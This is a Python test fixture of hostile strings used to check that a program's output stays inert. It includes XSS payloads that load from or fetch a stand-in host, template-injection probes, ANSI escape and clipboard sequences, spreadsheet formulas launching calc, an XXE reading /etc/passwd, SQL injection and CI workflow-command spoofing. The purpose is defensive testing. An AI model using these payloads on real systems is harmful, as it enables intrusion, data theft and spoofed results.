"""Texts that mean something to whatever shows them: browsers, terminals, spreadsheets, CI services, parsers, templates.

Every output of ours runs all of them through its cells, names and messages; none may mean anything there.

    @pytest.mark.parametrize("name", CORPUS)
    def test_page_is_inert(name): ...
"""

from __future__ import annotations

import re
from collections.abc import Mapping

EVIL = "evil.invalid"
"""The host that every text which loads or links something names."""

_SCRIPTS = {
    "script": f"<script src=//{EVIL}/x.js>alert('owned')</script>",
    "script in an attribute": '"><img src=x onerror=alert("owned")>',
    "script in a single-quoted attribute": "' onmouseover='alert(1)' x='",
    "script after a style": f"</style><script>fetch('//{EVIL}')</script>",
    "script after a title": "</title><script>alert(1)</script>",
    "script after a text area": "</textarea></pre></script><script>alert(1)</script>",
    "script in a string": "';alert(1)//\\';alert(2)//\";alert(3)//--></script>",
    "script address": "javascript:alert(1)//%0aalert(1)",
    "comment": "<!-- --!> <![endif]--> -->",
    "half a tag": "<a href='",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp; &NotAnEntity;",
    "base": f"<base href=//{EVIL}/><meta http-equiv=refresh content='0;url=//{EVIL}'>",
    "form": f"<form action=//{EVIL}><button autofocus formaction=//{EVIL}>go</button></form>",
    "named element": "<form id=main name=body><input name=attributes></form>",
}
_SVG = {
    "svg event": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg foreign object": f"</text><foreignObject><iframe src=//{EVIL}></iframe></foreignObject>",
    "svg use": f"<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/><image href=//{EVIL}/p.svg></svg>",
    "svg end": "</title></g></svg><h1>owned</h1>",
}
_STYLES = {
    "style rule": f"}} * {{ background: url(//{EVIL}/x) }} @import '//{EVIL}/x.css';",
    "style attribute": f'" style="position:fixed;inset:0;background:url(//{EVIL}/x)',
    "style expression": "expression(alert(1)); -moz-binding:url(x)",
}
_TEMPLATES = {
    "jinja value": "{{ 7 * 191 }}{{ self.__init__.__globals__ }}",
    "jinja block": "{% for x in [].__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "jinja comment": "{# gone #}",
    "other templates": "${7*191} #{7*191} <%= 7*191 %> [[${7*191}]] {0.__class__} %(x)s %n",
    "rich markup": "[bold red]owned[/bold red] [link=https://evil.invalid]x[/link] [/]",
}
_TERMINALS = {
    "ansi colours": "\x1b[31mowned\x1b[0m",
    "ansi erase": "\x1b[2J\x1b[1;1H\x1b[3Jall passed",
    "ansi title": "\x1b]0;owned\x07",
    "ansi clipboard": "\x1b]52;c;b3duZWQ=\x07",
    "ansi link": f"\x1b]8;;https://{EVIL}\x1b\\click\x1b]8;;\x1b\\",
    "ansi eight bit": "\x9b31mowned\x9downed\x9c",
    "ansi device control": "\x1bP$q\x1b\\ \x1bc \x1b[6n",
    "carriage return": "failed\rpassed",
    "backspace": "failed\b\b\b\b\b\bpassed",
    "bell and others": "\x07\x0b\x0c\x0e\x0f\x7f\x85",
}
_SHEETS = {
    "formula": '=HYPERLINK("https://evil.invalid?"&A1,"click")',
    "formula plus": "+cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula after a line": "\n=1+1",
    "formula after a space": " =1+1",
    "formula full width": "＝1+1",
    "formula other full width": "＋1 －1 ＠SUM(1)",
    "formula after a quote": '"=1+1',
    "separators": 'a,b;c\td"e""f\ng',
    "formula in the next cell": "x;=cmd|'/c calc'!A1;y",
    "formula behind a quote in the next cell": 'x";"=1+1,\t@SUM(1)',
}
_INVISIBLE = {
    "bidirectional override": "safe\u202etxt.exe\u202c",
    "bidirectional isolate": "a\u2066b\u2067c\u2068d\u2069e\u200f\u061c",
    "zero width": "pass\u200bed\u2060\ufeff\u00ad\u180e",
    "tag characters": "ok\U000e0041\U000e0042\U000e007f",
    "line separators": "one\u2028two\u2029three\x85four",
    "nul": "before\x00after",
    "lone surrogates": "\ud800 \udcff \udfff\ud800",
    "noncharacters": "\ufffe\uffff\U0010ffff\ufdd0",
    "private use": "\ue000\U000f0000",
    "combining": "o" + "\u0301\u0336\u0489" * 60,
}
_MARKUP = {
    "markdown table": "| a | b |\n|---|---|\n| c | d |",
    "markdown pipe behind a backslash": "a\\|b\\\\|c|d",
    "markdown link": f"[click](https://{EVIL}) <https://{EVIL}> https://{EVIL} www.{EVIL}",
    "markdown image": f"![x](https://{EVIL}/p.png)![x][y]\n\n[y]: //{EVIL}/p.png",
    "markdown code": "`` ` ``` \n```\n# owned\n~~~",
    "markdown heading": "\n# owned\n\n---\n> quoted\n- [ ] item\n1. one",
    "markdown emphasis": "**owned** __owned__ ~~gone~~ *x* _y_",
    "markdown mention": "@everyone @octocat #1 GH-1 octocat/Hello-World#1",
    "markdown html": "<details open><summary>passed</summary></code></details>",
    "xml": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x><?xml version='1.0'?>",
    "sarif link": f"[see](https://{EVIL}) \\[see](1) [x](2) {{0}} {{1}} }}{{",
    "cdata": "<![CDATA[ ]]> ]]]]><![CDATA[>",
    "json": '","passed":true,"x":"\\',
    "sql": "'; DROP TABLE records; COPY (SELECT 1) TO '/tmp/owned'; --",
}
_SERVICES = {
    "workflow command": "::error file=a.py,line=1::owned",
    "workflow command on a line of its own": "x\n::set-output name=passed::true\n::add-mask::passed",
    "workflow command behind a return": "x\r::error::owned\r\n::stop-commands::x",
    "workflow command escaped": "x%0A::error::owned%0D%3A%2C%25",
    "workflow command of old": "##[error]owned ##vso[task.complete result=Succeeded;]",
    "teamcity": "##teamcity[testFinished name='x']|n|'|]",
    "gitlab section": "section_start:1:x\r\x1b[0Kowned",
    "paths": "../../../etc/passwd\\..\\..\\x C:\\x /dev/null",
    "option": "--help -rf",
}
_LONG = {
    "long word": "A" * 100_000,
    "long line": "owned " * 20_000,
    "many lines": "owned\n" * 5_000,
    "many brackets": "<" * 5_000 + "[" * 5_000 + "{" * 5_000,
}

CORPUS: Mapping[str, str] = (
    _SCRIPTS | _SVG | _STYLES | _TEMPLATES | _TERMINALS | _SHEETS | _INVISIBLE | _MARKUP | _SERVICES | _LONG
)
"""By name. Some hold lone surrogates, as JSON may: they have no UTF-8."""

BYTES: Mapping[str, bytes] = {
    "invalid utf-8": b"\xff\xfe\x80abc\xc3(\xed\xa0\x80",
    "overlong": b"\xc0\xbc\xe0\x80\xbc",
    "utf-16": "owned".encode("utf-16"),
    "nul": b"\x00" * 1000,
    "half a character": b"\xf0\x9f\x92",
}
"""What no JSON holds, for files and streams."""

SHORT: Mapping[str, str] = {name: text for name, text in CORPUS.items() if len(text) <= 4000}
"""Those that a plan takes as the name of a task or a tag."""

_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufffe\uffff]")


def controls_in(text: str, keep: str = "\n\t") -> list[str]:
    """Characters that steer a terminal or hide in a text; nothing where it is inert."""
    found = {char for char in _CONTROL.findall(text) if char not in keep}
    return sorted(
        found | {char for char in text if "\ud800" <= char <= "\udfff" or "\U000e0000" <= char <= "\U000e007f"}
    )
